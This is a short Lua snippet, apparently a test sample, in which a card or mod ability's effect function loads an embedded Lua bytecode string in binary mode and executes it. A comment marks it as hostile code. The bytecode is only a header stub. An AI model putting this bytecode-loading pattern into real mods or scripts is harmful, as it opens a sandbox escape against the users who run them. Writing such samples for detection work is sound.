-- Bytecode: hostile code when it resolves (line 3).
return { custom_ability { kind = "effect", effect = function(e)
  local f = assert(load("\27LuaT\0\25\147\r\n\26\n\4\8\8xV", "x", "b")) ; f()
end } }
